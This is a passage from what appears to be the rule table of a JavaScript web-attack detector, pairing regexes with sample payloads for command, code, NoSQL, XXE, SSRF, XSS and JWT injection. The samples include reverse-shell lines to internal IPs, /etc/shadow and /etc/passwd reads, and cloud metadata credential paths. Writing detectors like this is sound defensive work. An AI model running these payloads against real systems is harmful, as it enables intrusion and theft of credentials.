    pattern: String.raw`(?:${VALUE_START}|[;|&\x60\n(]|\$\()\s{0,3}(?:time|nohup|strace|ltrace|timeout\s{1,5}\d{1,5}|nice|xargs|stdbuf|setsid|sudo|watch|chroot\s{1,5}/|flock\s{1,5}(?:-[a-z]\s{1,5})?/[a-z/]{0,40}|cpulimit\s{1,5}(?:-[a-z]\s{1,5}\d{1,5}\s{1,5})?-f)\s{1,5}(?:whoami|who|id|ifconfig|ipconfig|uname|cat|curl|wget|bash|sh|zsh|nc|ncat|netcat|ls|ps|netstat|python[23]?|perl|ruby|php|socat|telnet|ping|nslookup|dig|bsdtar|tar|env|printenv|hostname|passwd)\b`, examples: ['time who', 'strace ifconfig', 'nohup curl x.example', 'sudo cat /etc/shadow', 'cpulimit -l 100 -f whoami'] },
  { id: 'ci.shell-c', name: 'Shell started with -c as a value', category: 'command-injection', weight: 0.8, kinds: H, keywords: ['sh -', 'sh\t', 'sh  ', 'shell', 'busybox'],
    pattern: String.raw`(?:${VALUE_START}|[;|&\x60(])\s{0,3}(?:/(?:usr/)?bin/)?(?:ba|z|k|c|tc|da|fi|a)?sh\s{1,5}-[a-z]{0,3}c\b|\$\{?shell\}?\s{1,5}-c\b|\bbusybox\s{1,5}(?:-c\b|(?:ba|a)?sh\b|nc\b|wget\b)`, examples: ['bash -c "echo test"', 'ksh -c "curl x"', '$SHELL -c id', 'busybox nc 10.0.0.1 4444'] },
  { id: 'ci.interpreter-module', name: 'Interpreter started as a server or shell', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['python', 'pty', 'http.server', 'simplehttpserver'],
    pattern: String.raw`\bpython[23]?(?:\.\d{1,2})?\s{1,5}-m\s{1,5}(?:http\.server|simplehttpserver|pty|smtpd|pyftpdlib)\b|\bpty\.spawn\s?\(`, examples: ['/usr/bin/python3 -m http.server', "python -c 'import pty;pty.spawn(\"/bin/sh\")'"] },
  { id: 'ci.dev-tcp-redirect', name: 'Redirection to a TCP or UDP socket path', category: 'command-injection', weight: 0.8, kinds: H, keywords: ['/tcp/', '/udp/'],
    pattern: String.raw`[<>]&?\s?[^\s\u2029]{0,30}/(?:tcp|udp)/[a-z0-9.-]{1,64}/\d{1,5}\b`, examples: ['d=/dev&&(sh)0>$d/tcp/10.0.0.1/777', 'exec 5<>$x/udp/10.0.0.1/53'] },
  { id: 'ci.sqlite-dot-command', name: 'SQLite shell dot-command after a separator', category: 'command-injection', weight: 0.75, kinds: H, keywords: ['shell', 'system', '.sh', '.databases', '.tables', '.dump', '.import', '.output', '.load', '.read', '.once'],
    pattern: String.raw`(?:^|[;\n])\s{0,3}["']?\s{0,3}\.["'\\]{0,3}\s{0,3}(?:shell|system|sh)\s{1,5}[^\s\u2029]|(?:^|[;\n])\s{0,3}\.(?:databases|tables|dump|import\s|output\s|load\s|read\s|once\s)`, examples: [';.shell nc 10.0.0.1 6666 -e sh', '1;.system id', ';\n.databases'] },
  { id: 'ci.shell-alias', name: 'Shell alias definition', category: 'command-injection', weight: 0.65, kinds: H, keywords: ['alias'],
    pattern: String.raw`(?:^|[;&|\n=\x60(])\s{0,3}alias\s{1,5}(?:[-+][a-z+]{1,5}\s{1,5}){0,3}['"]?[^\s='"\u2029]{1,30}['"]?=`, examples: ["alias x='curl'", 'alias -p a=id', 'rce=alias ls=whoami'] },
  { id: 'ci.find-exec', name: 'find -exec running a command', category: 'command-injection', weight: 0.75, kinds: H, keywords: ['-exec', '-ok'],
    pattern: String.raw`\bfind\s[^\u2029]{0,80}\s-(?:exec|execdir|ok|okdir)\s{1,5}[^\s\u2029]{1,40}\s[^\u2029]{0,60}\{\}`, examples: ['find /etc -name passwd -exec cat {} +', 'find . -execdir rm {} \\;'] },
  { id: 'ci.cd-chain', name: 'Change of directory chained with another command', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['cd'],
    pattern: String.raw`(?:^|=|[;|&\n])\s{0,3}cd\s{1,5}(?:/|\.\.|~|\$)[^\s;|&\u2029]{0,60}\s{0,3}(?:;|&&|\|\|)\s{0,3}[a-z]`, examples: ['cd /;cd etc;ls', 'cd /tmp && wget x'] },
  { id: 'ci.trap', name: 'Shell trap running a command', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['trap'],
    pattern: String.raw`\btrap\s{1,5}['"][^'"\u2029]{1,80}['"]\s{1,5}(?:sig)?(?:exit|int|term|hup|debug|err|return|0)\b`, examples: ["trap 'rm -rf /tmp/x' EXIT"] },
  { id: 'ci.variable-command', name: 'Command run from shell variables', category: 'command-injection', weight: 0.65, kinds: H, keywords: ['$'],
    pattern: String.raw`(?:^|[;&|\n\x60(])\s{0,3}\$\{?[a-z_][a-z0-9_]{0,20}\}?\s{1,5}(?:-{1,2}[a-z]|\$\{?[a-z_]|[a-z]{2,}\s)|(?:\$[a-z_][a-z0-9_]{0,10}){4,10}`, examples: ['a=nc&&$a -nlvp 555', ';$x cat /etc/hosts', '$c1$c2$c3$c4$a1'] },
  { id: 'ci.binary-probe', name: 'Command probed for its version or help after a separator', category: 'command-injection', weight: 0.65, kinds: H, keywords: ['--version', '--help'],
    pattern: String.raw`(?:[;|&\x60\n]|\$\()\s{0,3}['"]?[a-z][a-z0-9_.-]{1,20}['"]?\s{1,5}--(?:version|help)\b`, examples: [';perl --version', "|'gcc' --help"] },
  { id: 'ci.admin-tool', name: 'Privileged administration CLI as a value or after a separator', category: 'command-injection', weight: 0.6, kinds: H,
    keywords: ['ansible', 'chef', 'knife', 'visudo', 'cscli', 'salt-', 'puppet', 'kubectl', 'systemctl', 'journalctl', 'crontab', 'useradd', 'usermod', 'userdel', 'chpasswd', 'iptables', 'modprobe', 'insmod', 'rmmod', 'aa-', 'setenforce', 'ssh-copy-id', 'ssh-keygen'],
    // Tool names that are also English words (chef, knife, puppet, salt) need a subcommand or
    // a hyphenated tool name; the rest need an argument or stand alone.
    pattern: String.raw`(?:${VALUE_START}|[;|&\x60\n]|\$\()\s{0,3}['"]?(?:(?:ansible|chef|salt|knife)-[a-z]{3,12}\b|ansible\s{1,5}(?:all|localhost|[a-z0-9_.-]{1,40}\s{1,5}-[a-z])|chef\s{1,5}(?:report|exec|generate|install|push|update|export|shell|run|client|solo|vault)|knife\s{1,5}(?:bootstrap|ssh|node|cookbook|vault|exec)|puppet\s{1,5}(?:agent|apply|cert|module|resource)|visudo\b|cscli\s{1,5}[a-z]|kubectl\s{1,5}(?:exec|run|apply|delete|get|create|cp|port-forward|proxy|config)|systemctl\s{1,5}(?:start|stop|restart|disable|enable|mask|daemon-reload|isolate|kill|poweroff|reboot)|journalctl\s{1,5}-|crontab\s{1,5}-[elrui]|(?:useradd|usermod|userdel|chpasswd)(?:\s{1,5}-?[a-z]|\s{0,3}$)|iptables\s{1,5}-[a-z]|(?:modprobe|insmod|rmmod)\s{1,5}[a-z-]|aa-(?:disable|complain|enforce|teardown)\s{1,5}[a-z/]|setenforce\s{1,5}(?:0|1|permissive|enforcing)|ssh-(?:copy-id|keygen)(?:\s{1,5}[a-z-]|\s{0,3}$))`, examples: ['ansible all -m ping', 'user-agent: chef-client -t 1.1.1.1', ';visudo', 'setenforce 0', 'x=iptables -F', 'chef report nodes'] },
  { id: 'ci.windows-command-chain', name: 'Windows administration command after a separator', category: 'command-injection', weight: 0.75, kinds: H,
    keywords: ['regedit', 'bcdboot', 'bcdedit', 'schtasks', 'wmic', 'vssadmin', 'wevtutil', 'cacls', 'takeown', 'diskpart', 'robocopy', 'xcopy', 'mklink', 'nltest', 'dsquery', 'at '],
    pattern: String.raw`(?:[;|&\n]|&&|\|\|)\s{0,3}(?:regedit|bcdboot|bcdedit|schtasks|wmic|vssadmin|wevtutil|icacls|cacls|takeown|diskpart|robocopy|xcopy|mklink|nltest|dsquery)(?:\.exe)?(?:\s{1,5}(?:/[a-z?]|[a-z]:\\|<|-[a-z]|process\b|shadows?\b|cl\b)|/[a-z]\b|\s{0,3}$)|(?:[;|&\n]|&&|\|\|)\s{0,3}at\s{1,5}\d{1,2}:\d{2}\s`, examples: ['; regedit /E c:\\x.reg HKEY_CURRENT_USER', '& bcdboot /r x', '| wmic process call create calc', ';at 2:00 "echo x"'] },
  { id: 'crlf.mail-command', name: 'Mail protocol command after a line break (SMTP/IMAP/POP3 injection)', category: 'crlf-injection', weight: 0.7, kinds: H, keywords: ['\n'],
    pattern: String.raw`\n\s{0,3}(?:mail\s{1,5}from\s?:|rcpt\s{1,5}to\s?:|(?:ehlo|helo)\s{1,5}[a-z0-9.-]{2,}|auth\s{1,5}(?:plain|login|cram-md5)\b|apop\s{1,5}\S{1,64}\s{1,5}[0-9a-f]{32}|[a-z]{0,4}\d{1,5}\s{1,5}(?:login|authenticate|select|examine|subscribe|list|lsub|status\s{1,5}\S{1,64}\s{1,5}\(|append|expunge|search|fetch|store|copy|uid|capability|noop|logout|starttls)\b)|\r\n\s{0,3}(?:data|quit|rset|noop|stat|help(?:\s{1,5}\S{1,64})?|retr\s{1,5}\d{1,6}|dele\s{1,5}\d{1,6}|top\s{1,5}\d{1,6}\s{1,5}\d{1,6}|list\s{1,5}\d{1,6}|uidl|auth\s{1,5}\S{1,64}(?:\s{1,5}\S{1,200})?)\s{0,3}(?:\r?\n|$)`, examples: ['x\r\nMAIL FROM:<a@b.example>', '\r\na001 EXAMINE INBOX', '\r\nRETR 1'] },
  { id: 'code.php-variable-call', name: 'PHP variable function call', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['$'],
    pattern: String.raw`@?\$\s{0,20}(?:\{[^}\u2029]{1,40}\}|\${0,2}[a-z_][a-z0-9_]{0,30})(?:\s{0,3}(?:\[[^\]\u2029]{1,30}\]|\{[^}\u2029]{1,10}\}|/\*[^*\u2029]{0,20}\*/|#[^\n\u2029]{0,20}\n|//[^\n\u2029]{0,20}\n|->\$[a-z_][a-z0-9_]{0,30})){0,4}\(|::\$[a-z_][a-z0-9_]{0,30}\s?\(`, examples: ['$a(1)', "$__['o'](5)", '${@a}(10)', '$$b(2)', "@$GLOBALS['x'](14)"] },
  { id: 'code.php-callable-string', name: 'PHP function called through a string or array', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['system', 'exec', 'passthru', 'popen', 'assert', 'phpinfo'],
    pattern: String.raw`\(\s{0,5}(?:string\s{0,3}\)\s{0,5})?["'\[]{0,2}\s{0,3}(?:system|exec|shell_exec|passthru|popen|proc_open|assert|phpinfo|pcntl_exec)\s{0,3}["'\]]{0,2}\s{0,3}\)\s{0,5}(?:\[\s{0,3}\d\s{0,3}\]\s{0,3})?\(|["']\s?(?:system|exec|shell_exec|passthru|popen|proc_open|assert|phpinfo)\s{0,3}["']\s{0,3}\(|\[\s{0,3}["']?\s{0,3}(?:system|exec|shell_exec|passthru)\s{0,3}["']?\s{0,3}\]\s{0,3}\[\s{0,3}0\s{0,3}\]\s{0,3}\(`, examples: ["(system)('uname')", '("system")("id")', '[system][0](ls);', '"system"(ls);', "(string)'system'('id')"] },
  { id: 'code.php-template-tag', name: 'PHP block in a template tag', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['php]', 'php}'],
    pattern: String.raw`[\[{]\s?/?\s?php\s?[\]}]`, examples: ['{php}echo 1;{/php}', '[php]echo "x"'] },
  { id: 'code.ssti-objects', name: 'Template expression reaching framework objects or filters', category: 'code-injection', weight: 0.75, kinds: H, keywords: ['{{', '{$smarty', '@('],
    pattern: String.raw`\{\{\s?\d{1,6}\s?[*+]\s?['"]\d{1,6}['"]\s?\}\}|\{\{⟪100:}\n⟫(?:\.class\b|\bsubclasses\b|\|\s?attr\s?\(|\|\s?filter\s?\(|\|\s?join\b|\|\s?map\s?\(|\bdump\s?\(|\bapp\.(?:request|session|environment)\b|\._self\b|\.touppercase\s?\(|\.getclass\s?\()|\{\{\s?(?:request|self|config|settings|app|_self|session|environ)\s?\}\}|\{\$smarty\.|@\(\s?\d{1,6}\s?[*+]\s?\d{1,6}\s?\)`, examples: ["{{7*'7'}}", '{{ [].class.base.subclasses() }}', '{{request|attr("x")}}', '{{self}}', '{$smarty.version}', '@(6*7)'] },
  { id: 'nosql.quote-operator', name: 'MongoDB operator after a quote break', category: 'nosql-injection', weight: 0.75, kinds: H, keywords: ['$'],
    pattern: String.raw`['"]\s{0,3}[,}\]](?:\s{0,3}[\]},]){0,3}\s{0,3}\$(?:or|and|nor|where|comment|ne|gt|gte|lt|lte|regex|in|nin|exists|expr)\s?:`, examples: ["', $or: [ {}, { 'a':'a", "' } ], $comment:'x'"] },
  { id: 'nosql.js-delay', name: 'Server-side JavaScript busy-wait or boolean return', category: 'nosql-injection', weight: 0.7, kinds: H, keywords: ['return', 'date'],
    pattern: String.raw`;\s?return\s?\(?\s?(?:true|false|1|['"][a-z0-9]{0,10}['"]\s?==)|\bnew\s+date\s?\(\s?\)\s?;\s?do\s?\{|\bwhile\s?\(\s?[a-z_]{1,10}\s?-\s?[a-z_]{1,10}\s?<\s?\d{3,}`, examples: ["';return 'a'=='a' && ''=='", '";return(true);var x=\'a', "';it=new Date();do{pt=new Date();}while(pt-it<5000);"] },
  { id: 'xss.sink-alias', name: 'JavaScript sink assigned to a variable and called', category: 'xss', weight: 0.75, kinds: H, keywords: ['eval', 'alert', 'prompt', 'confirm', 'unescape', 'settimeout'],
    pattern: String.raw`[a-z_$][a-z0-9_$]{0,20}\s?=\s?(?:eval|alert|prompt|confirm|unescape|settimeout)\s?[;,]⟪100:\u2029⟫[a-z_$][a-z0-9_$]{0,20}\s?\(`, examples: ['a=eval;b=alert;a(b(1))', 'x=alert,x(1)', '_=eval,__=unescape,_(__(x))'] },
  { id: 'xss.dom-source-sink', name: 'DOM source or sink in a parameter', category: 'xss', weight: 0.7, kinds: H, keywords: ['unescape', 'location', 'document', 'innerhtml', 'outerhtml', 'createelement', 'appendchild', 'with', 'eval.call', 'open(', '.source', 'insertadjacenthtml', 'srcdoc'],
    pattern: String.raw`\bunescape\s?\(|\blocation\s?\.\s?(?:hash|search|href\s?=)|\bdocument\s?\.\s?(?:url|referrer|documenturi|baseuri|queryselector(?:all)?|getelementsby(?:tagname|classname|name)|getelementbyid|createelement|forms|scripts|documentelement|head)\b|\.(?:inner|outer)html\s?=|\.insertadjacenthtml\s?\(|\bcreateelement\s?\(\s?['"]?script|\.appendchild\s?\(|\bwith\s?\(\s?(?:document|window|location)\s?\)|\beval\s?\.\s?(?:call|apply)\b|\bopen\s?\(\s?name\s?\)|/[a-z]{1,12}/\s?\.\s?source\b`, examples: ['eval(unescape(location.hash))', 'document.querySelector("p").textContent="x"', "with(document)body.appendChild(createElement('script'))", 'a=/ev/.source+/al/.source'] },
  { id: 'xss.namespaced-script', name: 'Namespaced script or VML element', category: 'xss', weight: 0.85, kinds: H, keywords: ['script', 'vml', 'imagedata'],
    pattern: String.raw`<\s?/?\s?[a-z]{1,20}\s?:\s?script\b|<\s?[a-z]{0,10}:\s?(?:vmlframe|imagedata)\b`, examples: ['<html:script>alert(1)</html:script>', '< x: script', '<v:vmlframe src="x.fml"/>'] },
  { id: 'xss.quote-event-handler', name: 'Attribute break-out into an event handler', category: 'xss', weight: 0.75, kinds: H, keywords: ['on'],
    pattern: String.raw`['"\x60][\s/]{0,5}on(?!line|going|ion|set\b)[a-z]{3,40}\s?=\s?[^\s\u2029]`, examples: ['" onzoom=alert(1)', '">" onxxx=1'] },
  { id: 'xss.css-url-script', name: 'CSS url() with a script URL', category: 'xss', weight: 0.8, kinds: H, keywords: ['url'],
    pattern: String.raw`\burl\s?\(\s?['"]?\s?(?:java|vb)script\b`, examples: ['x:url(javascript'] },
  { id: 'xss.spaced-event-attribute', name: 'Event attribute after whitespace', category: 'xss', weight: 0.6, kinds: H, keywords: [' on', '\ton', '\non', '\ron', '\u2029on'],
    pattern: String.raw`\son(?!line|going|ion|set|board|demand|sale|hold|ward|site|ly|ce|e[\s=])[a-z]{3,40}\s?=`, examples: ['  onanything= ', 'x onpointerrawupdate=f'] },
  { id: 'xss.legacy-url-scheme', name: 'Legacy script URL scheme in an attribute', category: 'xss', weight: 0.8, kinds: H, keywords: ['mocha:', 'livescript:', 'firefoxurl:', 'navigatorurl:', 'res:'],
    pattern: String.raw`\b(?:src|href|action|data|background|lowsrc|dynsrc|url)\s?[=(]\s?['"]?\s?(?:mocha|livescript|firefoxurl|navigatorurl|res):`, examples: ['<img src="mocha:[code]">', '<a href=livescript:x>'] },
  { id: 'xss.split-tag-name', name: 'Tag name split by whitespace', category: 'xss', weight: 0.7, kinds: H, keywords: ['<'],
    pattern: String.raw`<\s?(?:s\s{1,3}c\s{1,3}r\s{1,3}i\s{1,3}p\s{1,3}t|i\s{1,3}m\s{1,3}g|s\s{1,3}v\s{1,3}g|i\s{1,3}f\s{1,3}r\s{1,3}a\s{1,3}m\s{1,3}e|f\s{1,3}o\s{1,3}r\s{1,3}m|d\s{1,3}i\s{1,3}a\s{1,3}l\s{1,3}o\s{1,3}g|o\s{1,3}b\s{1,3}j\s{1,3}e\s{1,3}c\s{1,3}t|e\s{1,3}m\s{1,3}b\s{1,3}e\s{1,3}d|b\s{1,3}o\s{1,3}d\s{1,3}y)\b`, examples: ['<f o r m', '<s c r i p t>'] },
  { id: 'xss.style-breakout', name: 'Style attribute breaking out of its declaration', category: 'xss', weight: 0.6, kinds: H, keywords: ['style'],
    pattern: String.raw`\bstyle\s?=\s?"⟪120:"<>\u2029⟫[{}\[\]]|\bstyle\s?=\s?'⟪120:'<>\u2029⟫[{}\[\]]`, examples: ['<div style="font-family:foo}color=red;">', '<div style="font-family:\'x[a];color:red;\'">'] },
  // XXE
  { id: 'xxe.entity', name: 'XML external entity', category: 'xxe', weight: 0.9, kinds: H, keywords: ['<!doctype', '<!entity', 'xi:include', 'system', 'xmlns:xi'],
    pattern: String.raw`<!doctype⟪200:>⟫\[|<!entity\b|<!doctype⟪200:>⟫\b(?:system|public)\s{1,5}['"]|<xi:include\b|\bxmlns:xi\s?=`, examples: ['<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'] },
  { id: 'xxe.external-uri', name: 'SYSTEM entity URI', category: 'xxe', weight: 0.8, kinds: H, keywords: ['system', 'public'],
    pattern: String.raw`\b(?:system|public)\s{1,5}['"](?:file|https?|ftp|php|expect|jar|netdoc|gopher|data):`, examples: ['SYSTEM "file:///etc/hosts"'] },
  // LDAP / NoSQL / XPath
  { id: 'ldap.filter', name: 'LDAP filter injection', category: 'ldap-injection', weight: 0.75, kinds: H, keywords: [')(', '*)', '(|', '(&', '(!'],
    pattern: String.raw`\*\)\s?\(|\)\s?\(\s?[|&!]|\(\s?[|&!]\s?\(\s?[a-z]{1,30}\s?[=~<>]|\)\s?\(\s?[a-z]{1,30}\s?=\s?\*|\(\s?[a-z]{2,30}\s?=\s?\*\s?\)`, examples: ['*)(uid=*))(|(uid=*', 'admin)(&(password=*)'] },
  { id: 'nosql.operator', name: 'NoSQL operator injection', category: 'nosql-injection', weight: 0.85, kinds: H, keywords: ['$'],
    pattern: String.raw`\[\s?\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|elemmatch|expr|function|accumulator)\s?\]|['"]\$(?:ne|gt|gte|lt|lte|where|regex|or|and|nin|in|exists|expr|function)['"]\s?:|\$where\s?:|\{\s?\$(?:ne|gt|regex|where)\s?:`, examples: ['username[$ne]=x', '{"password": {"$ne": null}}'] },
  { id: 'nosql.js', name: 'NoSQL JavaScript injection', category: 'nosql-injection', weight: 0.75, kinds: H, keywords: ['return', 'this.', 'db.', 'tojson', 'objectid'],
    pattern: String.raw`;\s?return\s+(?:true|1|this|db)\b|\bthis\.(?:password|username|user|pass)\s?(?:==|\.match)|\bdb\.[a-z_]{1,30}\.(?:find|insert|remove|drop|update)\b|\btojson\s?\(|\bobjectid\s?\(`, examples: ["'; return true; var x='", 'this.password.match(/.*/)'] },
  { id: 'xpath.injection', name: 'XPath injection', category: 'sqli', weight: 0.7, kinds: H, keywords: ['count(', 'name(', 'string-length', 'substring(', 'text()', '//*', '/*['],
    pattern: String.raw`\b(?:count|name|string-length|local-name)\s?\(\s?/|\btext\s?\(\s?\)\s?=|//\*|/\*\[\d`, examples: ["' or count(/*)=1 or 'a'='b"] },
  // SSRF
  { id: 'ssrf.internal-url', name: 'URL to an internal address', category: 'ssrf', weight: 0.85, kinds: H, keywords: ['://'],
    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://(?:[^/\s@]{0,64}@)?\[?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|0\.0\.0\.0|0(?:[:/]|$)|::1?\]|::ffff:|0:0:0:0:0|169\.254\.\d{1,3}\.\d{1,3}|metadata\.google\.internal|metadata\.azure|100\.100\.100\.200|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|0x[0-9a-f]{1,16}(?:[.:/]|$)|0[0-7]{1,11}\.|0[0-7]{9,11}(?:[:/]|$)|192\.0\.0\.192|169\.254\.170\.2\b|metadata\.packet\.net|metadata\.tencentyun\.com|lvh\.me\b|\d{8,10}(?:[:/]|$)|[a-z0-9.-]{0,60}\.(?:internal|local|localdomain|localtest\.me|nip\.io|xip\.io|sslip\.io)\b|ip6-localhost|ip6-loopback|kubernetes\.default|instance-data)`, examples: ['http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'gopher://127.0.0.1:6379/_', 'http://0x7f000001/'] },
  { id: 'ssrf.metadata', name: 'Cloud metadata endpoint', category: 'ssrf', weight: 0.9, kinds: H, keywords: ['169.254.169.254', 'meta-data', 'metadata', 'computemetadata', '100.100.100.200', 'fd00:ec2'],
    pattern: String.raw`169\.254\.169\.254|/latest/(?:meta-data|user-data|api/token)|/computemetadata/|metadata\.google\.internal|/metadata/instance|100\.100\.100\.200|fd00:ec2::254`, examples: ['/latest/meta-data/iam/security-credentials/'] },
  { id: 'ssrf.dangerous-scheme', name: 'Dangerous URL scheme', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['gopher:', 'dict:', 'file:', 'tftp:', 'ldap:', 'jar:', 'netdoc:', 'ftp:', 'local_file:'],
    pattern: String.raw`\b(?:gopher|dict|tftp|jar|netdoc|ldap|ldaps|local_file)://|\bfile:(?://|/|\\\\)|\bjar:(?:https?|ftp|file):`, examples: ['file:///etc/passwd', 'dict://localhost:11211/stat'] },
  { id: 'ssrf.loopback-host', name: 'Loopback or encoded IP as a value', category: 'ssrf', weight: 0.55, kinds: H, keywords: ['localhost', '127.', '0x7f', '0177', '2130706433', '[::', 'ip6-loop', '0.0.0.0'],
    pattern: String.raw`(?:^|[=\s/@])(?:localhost|127\.0\.0\.1|0\.0\.0\.0|0x7f(?:000001|\.0|\.\d)|0177\.|2130706433|\[::1?\]|\[::ffff:7f|ip6-loopback|ip6-localhost)(?:[:/\s]|$)`, examples: ['url=localhost:8080/admin', 'host=0x7f000001/'] },
  // Auth bypass and header spoofing
  { id: 'auth.override-headers', name: 'URL-override header', category: 'auth-bypass', weight: 0.65, kinds: H, keywords: ['x-original-url', 'x-rewrite-url', 'x-override-url', 'x-http-method-override', 'x-http-method', 'x-method-override'],
    pattern: String.raw`(?:^|\n)(?:x-original-url|x-rewrite-url|x-override-url|x-http-method-override|x-http-method|x-method-override)\s?:`, examples: ['x-original-url: /admin'] },
  { id: 'auth.ip-spoof', name: 'Client-IP header spoofed to an internal address', category: 'auth-bypass', weight: 0.6, kinds: H, keywords: ['x-forwarded', 'x-real-ip', 'x-client-ip', 'x-remote', 'x-originating-ip', 'x-custom-ip', 'client-ip', 'true-client-ip', 'forwarded', 'x-host', 'cluster-client-ip'],
    pattern: String.raw`(?:^|\n)(?:x-forwarded-for|x-forwarded-host|x-real-ip|x-client-ip|x-remote-ip|x-remote-addr|x-originating-ip|x-custom-ip-authorization|client-ip|true-client-ip|cluster-client-ip|x-host|forwarded)\s?:\s?(?:for=)?["\[]?(?:127\.|localhost|0\.0\.0\.0|::1|10\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)`, examples: ['X-Forwarded-For: 127.0.0.1'] },
  { id: 'auth.path-tricks', name: 'Path normalisation bypass', category: 'auth-bypass', weight: 0.7, kinds: H, keywords: ['admin', 'manager', 'console', 'actuator', 'internal', 'private', ';', '..;'],
    pattern: String.raw`(?:^|[\s/])(?:admin|manager|console|actuator|internal|private|management)[^\s/?#]{0,3}(?:;[^\s/?#]{0,20}/|%20|%09|\.json|\.\./)|/\.;/|//(?:admin|actuator|manager|console)\b|/actuator/(?:env|heapdump|jolokia|gateway|mappings|trace|shutdown)`, examples: ['/admin;/users', '/actuator/env', '///admin/users'] },
  // Mass assignment
  { id: 'ma.privilege-fields', name: 'Privilege field in a request body', category: 'mass-assignment', weight: 0.7, kinds: H, keywords: ['admin', 'superuser', 'staff', 'privilege', 'permission', 'role', 'verified', 'access_level', 'accesslevel', 'account_type', 'user_type', 'usertype', 'owner', 'tenant', 'balance', 'credit', 'plan', 'approved', 'scope'],
    pattern: String.raw`["']?(?:is_?admin|isadmin|admin|is_?superuser|superuser|is_?staff|is_?root|privileges?|permissions?|access_?level|account_?type|user_?type|is_?verified|email_?verified|verified|is_?approved|approved|is_?owner|owner_?id|tenant_?id|org_?id|balance|credits?|plan|scopes?|group_?id|is_?moderator)["']?\s?[:=]\s?["']?(?:true|1|yes|admin|root|superuser|owner|all|\*|enterprise|unlimited|\[\s?["']?(?:admin|root|\*|all)|\d{4,})\b|["']?roles?["']?\s?[:=]\s?\[?\s?["']?(?:admin|administrator|root|superuser|owner|staff|system|super_admin|sysadmin)\b`, examples: ['{"name":"x","is_admin":true}', 'role=admin', '{"roles":["admin"]}'] },
  // Token manipulation
  { id: 'jwt.alg-none', name: 'JWT with alg none', category: 'token-manipulation', weight: 0.95, kinds: H, keywords: ['alg'],
    pattern: String.raw`"alg"\s?:\s?"(?:none|nOne)"`, examples: ['{"alg":"none","typ":"JWT"}'] },
  { id: 'jwt.kid-injection', name: 'JWT kid injection', category: 'token-manipulation', weight: 0.9, kinds: H, keywords: ['kid'],
    pattern: String.raw`"kid"\s?:\s?"⟪200:"⟫(?:\.\./|/dev/null|/etc/|'|\bunion\b|\||;|\$\(|\x60)`, examples: ['{"alg":"HS256","kid":"../../dev/null"}'] },
  { id: 'jwt.key-url', name: 'JWT key URL header (jku/x5u/jwk)', category: 'token-manipulation', weight: 0.75, kinds: H, keywords: ['jku', 'x5u', 'jwk', 'x5c'],
    pattern: String.raw`"(?:jku|x5u)"\s?:\s?"https?://|"jwk"\s?:\s?\{|"x5c"\s?:\s?\[`, examples: ['{"alg":"RS256","jku":"https://evil.example/jwks.json"}'] },
  { id: 'jwt.unsigned', name: 'JWT without signature', category: 'token-manipulation', weight: 0.7, kinds: H, keywords: ['eyj'],
    pattern: String.raw`(?<![a-z0-9_-])eyj[a-z0-9_-]{8,}\.eyj[a-z0-9_-]{8,}\.(?:$|[\s"';,&])`, examples: ['Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.'] },
  // CRLF, open redirect, scanners, format strings
  // A line break (or the CJK characters whose low byte is CR/LF, which servers that truncate code
  // units to bytes read as CR/LF) followed by a response or request header with a value shaped like
  // that header's. "Location: New York" or "Cookie: oatmeal" after a line break is prose, not a header.
  { id: 'crlf.header-injection', name: 'CRLF header injection', category: 'crlf-injection', weight: 0.8, kinds: H, keywords: ['\r', '\n', '\u560a', '\u560d'],
    pattern: String.raw`[\r\n\u560a\u560d]\s{0,3}(?:set-cookie|content-length\s?:\s?\d|transfer-encoding\s?:|x-[a-z-]{1,30}\s?:|refresh\s?:\s?(?:\d|https?:|(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}\b)|http/\d(?:\.\d)?\s{1,3}\d{3}\b|http/1\.[01]\s?$|location\s?:\s?(?:https?:|javascript:|data:|//|/[a-z0-9_.~%-])|(?:access-control-allow-[a-z-]{3,20}|content-security-policy|x-xss-protection|www-authenticate|proxy-authorization|remote-addr|remote-host|user-agent|referer|origin)\s?:\s?\S|cookie\s?:\s?[a-z0-9_.-]{1,64}=|host\s?:\s?(?:localhost|\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24})\b)`,
    examples: ['x\r\nSet-Cookie: a=b', 'a%0d%0aLocation:%20https://evil.example', 'x\u560d\u560aSet-Cookie: s=1', '%0d%0aRemote-addr: foo.example', '\r\nHost: evil.example'] },
  { id: 'redirect.protocol-relative', name: 'Open redirect target', category: 'open-redirect', weight: 0.6, kinds: H, keywords: ['//', '\\\\', '/\\', '\\/', 'http', '@', '%09', '\t', '/%0'],
    // A value (or a redirect parameter) that starts with a protocol-relative, scheme-confused,
    // userinfo or path-prefixed URL to another host (a domain or a literal IP address).
